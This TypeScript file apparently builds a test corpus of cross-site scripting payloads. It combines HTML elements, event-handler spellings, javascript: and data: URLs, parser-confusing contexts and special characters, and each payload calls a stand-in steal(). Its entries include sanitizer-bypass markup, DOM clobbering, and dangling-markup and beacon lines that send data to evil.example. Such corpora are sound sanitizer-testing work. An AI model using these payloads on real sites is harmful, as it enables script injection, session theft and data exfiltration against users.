/**
 * Attacks made by crossing what an attack consists of: where it stands, what carries it, how its address or handler is
 * spelt. Each calls steal() if it gets through, so that a browser can say so. In words of our own.
 */

const ACT = 'steal()';
const LIVE = `<img src=x:x onerror=${ACT}>`;

/** Elements whose handler fires without anybody doing anything, in most browsers; @ is where it stands. */
const HANDLED: readonly string[] = [
  '<img src=x:x @=error>',
  '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= @=load>',
  '<svg @=load></svg>',
  '<svg><image href=x:x @=error /></svg>',
  '<svg><animate attributeName=x dur=1ms @=begin /></svg>',
  '<svg><set attributeName=x to=y @=begin /></svg>',
  '<svg><style @=load></style></svg>',
  '<svg><script href=x:x @=error></script></svg>',
  '<body @=load>',
  '<body @=pageshow>',
  '<body @=focus>',
  '<frameset @=load>',
  '<iframe @=load></iframe>',
  '<object data=x:x @=error></object>',
  '<embed src=x:x @=error>',
  '<script src=x:x @=error></script>',
  '<link rel=stylesheet href=x:x @=error>',
  '<style @=load>p{}</style>',
  '<video src=x:x @=error></video>',
  '<video @=error><source src=x:x></video>',
  '<video><source src=x:x @=error></video>',
  '<video src=x:x @=loadstart></video>',
  '<audio src=x:x @=error></audio>',
  '<audio src=x:x @=loadstart></audio>',
  '<picture><img srcset=x:x @=error></picture>',
  '<input autofocus @=focus>',
  '<input type=image src=x:x @=error>',
  '<textarea autofocus @=focus></textarea>',
  '<select autofocus @=focus></select>',
  '<button autofocus @=focus>a</button>',
  '<a href=https://x.example autofocus @=focus>a</a>',
  '<p tabindex=1 autofocus @=focus>a</p>',
  '<p contenteditable autofocus @=focus>a</p>',
  '<x-y tabindex=1 autofocus @=focus>a</x-y>',
  '<details open @=toggle>a</details>',
  '<marquee @=start>a</marquee>',
  '<marquee loop=1 width=0 @=finish>a</marquee>',
  '<style>@keyframes k{from{color:red}}</style><p style="animation:k 1ms" @=animationend>a</p>',
  '<p style="content-visibility:auto" @=contentvisibilityautostatechange>a</p>',
  '<dialog open @=close><form method=dialog><button>a</button></form></dialog>',
  '<p @=click>a</p>',
  '<p @=pointerenter>a</p>',
  '<p @=mouseover>a</p>',
  '<math><mi @=click>a</mi></math>',
  '<svg><text @=click>a</text></svg>',
  '<td @=click>a</td>',
  '<button popovertarget=p>a</button><p popover id=p @=beforetoggle>a</p>',
];

/** Ways to write a handler. */
const HANDLER_FORMS: readonly ((event: string) => string)[] = [
  (event) => `on${event}=${ACT}`,
  (event) => `on${event}="${ACT}"`,
  (event) => `oN${event.toUpperCase()}='${ACT}'`,
  (event) => `/on${event}\n=\n"${ACT}"/`,
  (event) => `title="a"on${event}=${ACT}//`,
  (event) => `\fon${event}=&#115;teal&lpar;&rpar;`,
  (event) => `title=on${event}=x on${event}="&#x73;teal()"`,
  (event) => `title='">' on${event}=\`\`,${ACT}`,
  (event) => `a="<" b='>' on${event}=${ACT}`,
];

/** Carriers of an address; @ is where it stands, within double quotes. */
const CARRIERS: readonly string[] = [
  '<a href="@">a</a>',
  '<a href="https://x.example" href="@">a</a>',
  '<a xlink:href="@">a</a>',
  '<p><a href="@"><p>a</p></a>',
  '<area href="@">',
  '<iframe src="@"></iframe>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<object><param name=movie value="@"></object>',
  '<applet code="@"></applet>',
  '<frameset><frame src="@"></frameset>',
  '<form action="@"><input type=submit></form>',
  '<form><button formaction="@">a</button></form>',
  '<form id=f></form><input form=f type=image formaction="@">',
  '<svg><a href="@"><text y=9>a</text></a></svg>',
  '<svg><a xlink:href="@"><text y=9>a</text></a></svg>',
  '<svg><a><animate attributeName=href values="@" /><text y=9>a</text></a></svg>',
  '<svg><a><set attributeName=href to="@" /><text y=9>a</text></a></svg>',
  '<svg><use href="@" /></svg>',
  '<svg><script href="@"></script></svg>',
  '<math href="@">a</math>',
  '<math><mtext><a href="@">a</a></mtext></math>',
  '<math><maction actiontype=statusline xlink:href="@">a</maction></math>',
  '<img src="@">',
  '<img srcset="@ 1x">',
  '<picture><source srcset="@"><img></picture>',
  '<video poster="@" src="@"></video>',
  '<audio src="@"></audio>',
  '<video><track default src="@"></video>',
  '<link rel=stylesheet href="@">',
  '<link rel=import href="@">',
  '<link rel=modulepreload href="@">',
  '<base href="@"><a href="x">a</a>',
  '<meta http-equiv=refresh content="0;url=@">',
  '<script src="@"></script>',
  '<script type=module>import "@"</script>',
  '<body background="@">',
  '<table background="@"><td background="@">a</table>',
  '<blockquote cite="@">a</blockquote>',
  '<a href="https://x.example" ping="@">a</a>',
  '<input type=image src="@">',
  '<p style="background:url(@)">a</p>',
  '<style>@import "@"; p { background: url("@") }</style>',
  '<amp-iframe src="@"></amp-iframe><amp-img src="@"></amp-img>',
  '<lite-youtube videoid="@"></lite-youtube>',
  '<blockquote class=instagram-media data-instgrm-permalink="@">a</blockquote>',
  '<img data-src="@" data-srcset="@ 1x">',
  '<portal src="@"></portal>',
  '<button type=button popovertarget=x commandfor=x formaction="@">a</button>',
  '<template shadowrootmode=open><a href="@">a</a></template>',
];

/** Addresses that a browser runs or once ran, fit to stand in double quotes. */
export const RUNNING_ADDRESSES: readonly string[] = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `\u0001 javascript:${ACT}`,
  `java\tscript:${ACT}`,
  `java&#10;scr&Tab;ipt&colon;${ACT}`,
  `&#x6A&#x61&#x76&#x61script&#58;${ACT}`,
  `&#0000106avascript:${ACT}`,
  `javascript://x.example/%0A${ACT}`,
  `javascript&#13;:${ACT}`,
  `javascript:"${'\\x3cimg src=x:x onerror=steal()\\x3e'}"`.replaceAll('"', '&quot;'),
  `data:text/html,<script>parent.${ACT}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc3RlYWwoKTwvc2NyaXB0Pg==',
  `data:text/javascript,${ACT}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${ACT}'/>#x`,
  `vbscript:${ACT}`,
  `livescript:${ACT}`,
  'blob:https://news.example/5f1b',
  'filesystem:https://news.example/temporary/x.html',
  `view-source:javascript:${ACT}`,
  `jar:https://evil.example!/x#${ACT}`,
  'about:srcdoc',
  '//evil.example/x.js',
  'https:evil.example/x.js',
  '\\\\evil.example\\x.js',
];

/** What a parser reads as raw text, or in a mode of its own. */
const RAW =
  'style title textarea xmp noscript noembed noframes iframe script template listing select plaintext option svg math';

/** Where it stands; @ is the place. */
const PLACES: readonly string[] = [
  '@',
  '<svg>@</svg>',
  '<math>@</math>',
  '<math><mtext>@</mtext></math>',
  '<math><mtext><mglyph>@</mglyph></mtext></math>',
  '<math><mi><malignmark>@</malignmark></mi></math>',
  '<math><annotation-xml encoding="text/html">@</annotation-xml></math>',
  '<math><annotation-xml>@</annotation-xml></math>',
  '<svg><foreignObject>@</foreignObject></svg>',
  '<svg><desc>@</desc></svg>',
  '<svg><title>@</title></svg>',
  '<table>@</table>',
  '<table><caption>@</table>',
  '<table><tr><td><svg><desc>@</table>',
  '<form><math><mtext></form><form><mglyph>@',
  '<select>@</select>',
  '<template>@</template>',
  '<p><b><table><td></b>@</table>',
  '<a href=https://x.example>@</a>',
];

/** What one reader takes for a comment or an instruction, and another for the end of it. */
const CONFUSIONS: readonly string[] = [
  '<!--@-->',
  '<!-->@-->',
  '<!--->@-->',
  '<!-- --!>@<!-- -->',
  '<!-- <!-- -->@-->',
  '<!--><!--@-->-->',
  '<!-->@<!--',
  '<!a="<!--">@<!-- -->',
  '<![CDATA[@]]>',
  '<![CDATA[>@]]>',
  '<!DOCTYPE x [<!ENTITY a "@">]>&a;',
  '<?xml version="1.0"?>@<?php x ?>',
  '<?import namespace="t" @>',
  '</ @>',
  '</x title="@">',
  '<% @ %>',
  '<!--[if true]>@<![endif]-->',
  '<p title="@">a',
  "<p title='@'>a",
  '<p title=`@`>a',
  '<p a=">" b="@" c=">">',
  '<a/b=@/c>',
  '<x:y>@</x:y>',
  '<font face="@">',
];

/** Signs that some parser skips, ends a name at, or changes. */
const SIGNS: readonly string[] = [
  ...['\0', '\t', '\n', '\v', '\f', '\r', '\r\n', '\u001b', ' ', '/', '//', '\u007f', '\u0085'],
  ...[
    '\u00a0',
    '\u00ad',
    '\u200b',
    '\u2028',
    '\u202e',
    '\u3000',
    '\ufeff',
    '\ufffe',
    '\uffff',
    '\ud800',
  ],
  ...[
    '&#0;',
    '&#9;',
    '&NewLine;',
    '&shy;',
    '&#x110000;',
    '+',
    '`',
    '\\',
    '%00',
    '<',
    '</',
    '<!',
    '&',
  ],
];

const SIGN_PLACES: readonly ((sign: string) => string)[] = [
  (sign) => `<${sign}img src=x:x onerror=${ACT}>`,
  (sign) => `<img${sign}src=x:x${sign}onerror=${ACT}>`,
  (sign) => `<img src=x:x onerror${sign}=${sign}${ACT}>`,
  (sign) => `<scr${sign}ipt>${ACT}</script${sign}>`,
  (sign) => `<a href="java${sign}script:${ACT}">a</a>`,
  (sign) => `<a href="${sign}javascript:${ACT}">a</a>`,
  (sign) => `<p title="${sign}"${sign}onclick=${ACT}>a</p>`,
];

/** Each of a kind of its own. */
const SINGLE: readonly string[] = [
  // Properties of the page given other meanings by names.
  ...'body cookie forms head location URL defaultView documentElement createElement getElementById implementation'
    .split(' ')
    .flatMap((name) => [
      `<img name=${name} src=https://x.example/a.png>`,
      `<form id=${name}><input name=attributes><input id=parentNode></form>`,
      `<a id=${name}></a><a id=${name} name=x href="javascript:${ACT}">a</a>`,
    ]),
  ...'__proto__ constructor toString hasOwnProperty nodeName innerHTML childNodes'
    .split(' ')
    .flatMap((name) => [`<form><output name=${name}>a</form>`, `<p ${name}=x id=${name}>a</p>`]),
  '<iframe name=top srcdoc="<a id=x href=clobbered>"></iframe>',
  // What is loaded or told without a program.
  ...'stylesheet prefetch preload dns-prefetch preconnect modulepreload icon manifest prerender import alternate'
    .split(' ')
    .map((rel) => `<link rel="${rel}" as=script href="https://evil.example/x?rel=${rel}">`),
  '<style>a[href^="https://x"]{background:url(https://evil.example/x)}</style><a href=https://x.example>a</a>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style><p>a',
  '<style>p{behavior:url(#x);-moz-binding:url(https://evil.example/x#y);width:expression(steal())}</style>',
  '<p style="list-style:url(https://evil.example/x);content:image-set(url(//evil.example/y) 1x)">a',
  '<p style="width:expression(steal())">a</p><p style=xss:expr/**/ession(steal())>b</p>',
  '<svg><style>@import "https://evil.example/x.css";</style><rect fill="url(https://evil.example/y#z)"/></svg>',
  '<svg><filter id=f><feImage href=https://evil.example/x /></filter><rect style="filter:url(#f)"/></svg>',
  '<svg><image href=https://evil.example/x.png /></svg>',
  '<a href=https://x.example ping="https://evil.example/p https://evil.example/q">a</a>',
  '<a href=https://x.example attributionsrc=https://evil.example/a download target=top>a</a>',
  '<img src=https://x.example/a.png attributionsrc=https://evil.example browsingtopics sharedstoragewritable>',
  '<script type=speculationrules>{"prerender":[{"urls":["https://evil.example/"]}]}</script>',
  '<script type=importmap>{"imports":{"x":"data:text/javascript,steal()"}}</script><script type=module>import "x"</script>',
  '<script type=webbundle>{"source":"https://evil.example/x.wbn"}</script>',
  '<script type="text/&#x6A;avascript">steal()</script>',
  '<script language=vbscript>steal()</script>',
  '<script nomodule>steal()</script><script async src="data:,steal()"></script>',
  '<script>document.body.setHTMLUnsafe("<img src=x:x onerror=steal()>")</script>',
  '<script>document.body.innerHTML="<img src=x:x onerror=steal()>"</script>',
  '<script>trustedTypes.createPolicy("hearsay",{createHTML:(x)=>x});steal()</script>',
  '<script>trustedTypes.createPolicy("default",{createHTML:(x)=>x,createScript:(x)=>x});eval("steal()")</script>',
  '<script>Function("steal()")()</script><script>setTimeout("steal()")</script>',
  '<script>new Worker("data:text/javascript,1");navigator.sendBeacon("https://evil.example/b");steal()</script>',
  '<meta http-equiv=refresh content="0;URL=https://evil.example/m">',
  '<meta http-equiv=Content-Security-Policy content="default-src *; report-uri https://evil.example/c">',
  '<meta http-equiv=origin-trial content=x><meta http-equiv=delegate-ch content="x https://evil.example">',
  '<meta charset=utf-7>+ADw-script+AD4-steal()+ADw-/script+AD4-',
  '<meta http-equiv=Content-Type content="text/html; charset=iso-2022-jp">\u001b$B<script>steal()</script>\u001b(B',
  '<meta name=referrer content=unsafe-url><meta name=viewport content=width=9><meta name=theme-color content=red>',
  '<html manifest=https://evil.example/m xmlns:x=y class=x data-theme=dark lang="x" onclick=steal()>',
  '<base target=_top href=https://evil.example/><base href="javascript:/x/">',
  // Markup that is left open, so that what follows is taken along.
  '<img src="https://evil.example/x?',
  "<a href='https://evil.example/x?",
  '<form action=https://evil.example/f><textarea name=t>',
  '<form action=https://evil.example/f><button>Go</button><select name=s><option>',
  '<p title="left open',
  '<!-- left open',
  '<style>left open',
  '<title>left open',
  '<plaintext>left open',
  '<noscript><p title="left open',
  '<button form=search formaction=https://evil.example/f>a</button><input form=search name=q value=x>',
  '<label for=search>a</label><output for=q>b</output><datalist id=q><option>c</datalist>',
  // Elements that take on a behaviour of their own.
  '<p is=x-y>a</p><button is=fancy onclick=steal()>b</button>',
  '<div><template shadowrootmode=open><style>:host{all:initial}</style><script>steal()</script></template>a</div>',
  '<div><template shadowrootmode=closed><img src=x:x onerror=steal()></template></div>',
  '<template><img src=x:x onerror=steal()></template><template><template><script>steal()</script>',
  '<slot name=x onslotchange=steal()></slot><p slot=x part=y exportparts=z>a</p>',
  '<dialog open closedby=none style="position:fixed;inset:0">Sign in<form action=//evil.example><input name=p></dialog>',
  '<p popover=manual id=x>a</p><button popovertarget=x popovertargetaction=show>b</button>',
  '<button commandfor=x command=show-modal interestfor=x>a</button><dialog id=x onbeforetoggle=steal()>b</dialog>',
  '<p inert hidden=until-found onbeforematch=steal() accesskey=x autocapitalize=x enterkeyhint=x nonce=y>a</p>',
  '<p contenteditable=plaintext-only virtualkeyboardpolicy=manual writingsuggestions spellcheck draggable=true>a',
  '<p itemscope itemid=javascript:steal() itemref=x itemprop=y>a</p>',
  '<p aria-live=assertive role=alert aria-hidden=true aria-owns=x>a</p>',
  '<p data-next=steal data-href=javascript:steal() class="notice unseen" hidden>a</p>',
  '<map name=m><area shape=default href="javascript:steal()"></map><img usemap=#m src=https://x.example/a.png>',
  '<keygen autofocus onfocus=steal()><isindex type=image src=1 onerror=steal()><menuitem onclick=steal()>',
  '<bgsound src="javascript:steal()"><layer src="javascript:steal()"></layer><ilayer src=x></ilayer>',
  '<xml id=x><a b="&lt;img src=x:x onerror=steal()&gt;"></a></xml><span datasrc=#x datafld=b dataformatas=html></span>',
  '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="javascript:steal()"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x"></object><embed code=x allowscriptaccess=always src=x>',
  `<object data=x:x><img src=x:x onerror=${ACT}></object>`,
  '<fencedframe></fencedframe><portal></portal><controlledframe></controlledframe><webview src=data:text/html,x></webview>',
  '<iframe srcdoc="&lt;img src=x:x onerror=parent.steal()&gt;"></iframe>',
  '<iframe srcdoc="<script>parent.steal()</script>" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe csp="script-src *" allow=fullscreen credentialless src="data:text/html,<script>parent.steal()</script>"></iframe>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.steal()</script>"></iframe></foreignObject></svg>',
  '<svg><handler xmlns="http://www.w3.org/2001/xml-events" ev:event=load>steal()</handler></svg>',
  '<svg><a><animateMotion onbegin=steal() dur=1ms /><discard onbegin=steal() /></a></svg>',
  '<svg xmlns:xlink=x><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x" /></svg>',
  '<svg><script>alert&lpar;1&rpar;,steal()</script></svg><svg><script><![CDATA[steal()]]></script></svg>',
  '<svg><p><style><g title="</style><img src=x:x onerror=steal()>">',
  '<svg></p><style><g title="</style><img src=x:x onerror=steal()>">',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x:x onerror=steal()>">',
  '<math><mtext><table><mglyph><style><math href="javascript:steal()"></style></mglyph></table></mtext></math>',
  '<table><caption><b></caption><tr><td></b><img src=x:x onerror=steal()></table>',
  '<form><table><form><input form><tr><td></form><img src=x:x onerror=steal()></table>',
  '<select><keygen><input><textarea autofocus onfocus=steal()></select>',
  '<select><button><selectedcontent></selectedcontent></button><option selected><img src=x:x onerror=steal()></select>',
  `<b><i><u><s><a href=x><nobr><b><i><u><s><nobr>${LIVE}</b></a></i></nobr>`,
  `<table><tr><td><table><tr><table><caption><caption>${LIVE}</table>`,
  `<ruby><rb><rt><rtc><rp><svg><desc><rt>${LIVE}</ruby>`,
  `<frameset></frameset><noframes>${LIVE}</noframes>`,
  `</p></br></body></html>${LIVE}<html><head><body onload=steal()>`,
  `<p><button><p>${LIVE}</button><p><object><p></object>${LIVE}`,
  `<dl><dt><dd><dt>${LIVE}</dl><li><li>${LIVE}`,
  `<h1><h2>${LIVE}</h1><pre>\n\n${LIVE}</pre><listing>\n${LIVE}</listing>`,
  `<image src=x:x onerror=${ACT}>`,
  '{{constructor.constructor("steal()")()}}<p ng-app ng-csp ng-click="$event.view.steal()">a</p>',
  '<p v-html="steal()" x-data x-init="steal()" hx-get=javascript:steal() hx-on:load=steal() onclick$=steal()>a</p>',
  '<p data-bind="html: steal()" data-controller=x data-action="click->x#y" @click=steal() :href=x #ref [src]=x (load)=x>a</p>',
];

/** All of them, each once, in an order that does not change. */
export const ATTACK_GRID: readonly string[] = [
  ...new Set([
    ...HANDLED.flatMap((element, row) => handled(element, row)),
    ...CARRIERS.flatMap((carrier, row) =>
      everyOther(RUNNING_ADDRESSES, row).map((address) => carrier.replaceAll('@', () => address)),
    ),
    ...PLACES.flatMap((place) => rawIn(place)),
    ...CONFUSIONS.flatMap((confusion) =>
      PLACES.map((place) => place.replace('@', () => confusion.replace('@', () => LIVE))),
    ),
    ...SIGNS.flatMap((sign) => SIGN_PLACES.map((place) => place(sign))),
    ...SINGLE,
  ]),
];

function handled(element: string, row: number): string[] {
  return everyOther(HANDLER_FORMS, row).map((form) =>
    element.replace(/@=([a-z]{1,40})/, (_, event: string) => form(event)),
  );
}

/** Half of a list, the other half for the next row: all meet all kinds, and the product stays small. */
function everyOther<One>(all: readonly One[], row: number): One[] {
  return all.filter((_, column) => (row + column) % 2 === 0);
}

/** The raw element ends within a value, for whoever reads it as raw; for whoever does not, the attack is a value. */
function rawIn(place: string): string[] {
  return RAW.split(' ').map((raw) =>
    place.replace('@', () => `<${raw}><p title="</${raw}>${LIVE}">a</p></${raw}>`),
  );
}
